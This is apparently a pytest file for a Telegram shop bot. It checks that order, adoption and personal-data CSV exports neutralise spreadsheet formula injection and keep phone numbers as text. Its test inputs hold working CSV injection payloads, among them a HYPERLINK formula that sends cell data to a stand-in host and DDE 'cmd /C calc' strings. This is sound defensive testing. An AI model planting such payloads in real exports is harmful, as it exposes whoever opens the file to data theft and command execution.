"""Exports safe to open in a spreadsheet: no cell runs as a formula, phone numbers stay text
(issue 14, item 8; OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from sqlmodel import col

from models.adoption.adoptions import Adoption
from models.privacy import personal_csv
from models.reporting.export import BOM, FORMULA_STARTS, safe_cell
from models.shop.orders import Order
from tests.adoption_helpers import paid_adoption
from tests.backoffice_helpers import paid_order
from tests.factories import TgUser
from tests.harness import Harness

ATTACKS = {
    "name": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "note": "-2+3+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "carrier": "\t=1+1",
    "tracking": "\r=1+1",
}


def rows_of(content: bytes) -> list[list[str]]:
    """The rows of a CSV export, after its byte-order mark."""
    assert content.startswith(BOM.encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell of the file starts with a character that makes it a formula or a number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("+8613912345678", "'+8613912345678"),  # numeric-looking: still text
        ("-12.5", "'-12.5"),
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ບ້ານໂພນໄຊ", "ບ້ານໂພນໄຊ"),
        ("128.00", "128.00"),
        ("", ""),
        (1001, 1001),
    ],
)
def test_safe_cell_follows_owasp(cell: object, safe: object) -> None:
    assert safe_cell(cell) == safe


def in_english(user: TgUser) -> TgUser:
    """The same account with an English Telegram app: its exports come with English headers."""
    return TgUser(id=user.id, first_name=user.first_name, language_code="en")


async def test_orders_export_has_no_formula_and_phones_as_text(
    bot: Harness, admin: TgUser, li: TgUser
) -> None:
    await bot.command(TgUser(id=li.id, first_name=ATTACKS["name"]), "/start")
    order = paid_order(bot.db, li.id, "HONEY-500G")
    with bot.db.session() as session:
        values = {
            "phone": "+8613800138000",
            "note": ATTACKS["note"],
            "address": ATTACKS["address"],
            "carrier": ATTACKS["carrier"],
            "tracking_number": ATTACKS["tracking"],
        }
        session.exec(update(Order).where(col(Order.id) == order.id).values(**values))  # type: ignore[call-overload]
        session.commit()
    calls = await bot.command(in_english(admin), "/export orders")
    document = next(c for c in calls if c.method == "sendDocument")
    rows = rows_of(document.files["document"][1])
    assert_no_formula(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Phone (personal data)"] == "'+8613800138000"
    assert row["Buyer name (personal data)"] == "'" + ATTACKS["name"]
    assert row["Note (personal data)"] == "'" + ATTACKS["note"]
    assert row["Total"] == f"{order.total_fen / 100:.2f}"  # amounts stay numbers
    assert row["Currency"] == "CNY"


async def test_adoptions_export_has_no_formula(bot: Harness, admin: TgUser, noy: TgUser) -> None:
    await bot.command(noy, "/start")
    adoption = paid_adoption(bot.db, noy.id, "PEACH-0001", nickname="=1+1", gift_to="@cmd")
    with bot.db.session() as session:
        session.exec(
            update(Adoption)  # type: ignore[call-overload]
            .where(col(Adoption.id) == adoption.id)
            .values(certificate_name="+1-1", gift_message="-cmd")
        )
        session.commit()
    calls = await bot.command(in_english(admin), "/export adoptions")
    document = next(c for c in calls if c.method == "sendDocument")
    rows = rows_of(document.files["document"][1])
    assert_no_formula(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Phone (personal data)"] == "'+8562055551234"
    assert row["Nickname (personal data)"] == "'=1+1"


def test_personal_csv_neutralises_every_cell() -> None:
    content = personal_csv(
        ["name", "phone", "note"], [["=cmd|' /C calc'!A0", "+8613912345678", "ok"]]
    )
    rows = rows_of(content)
    assert rows[1] == ["'=cmd|' /C calc'!A0", "'+8613912345678", "ok"]
    assert_no_formula(rows[1:])
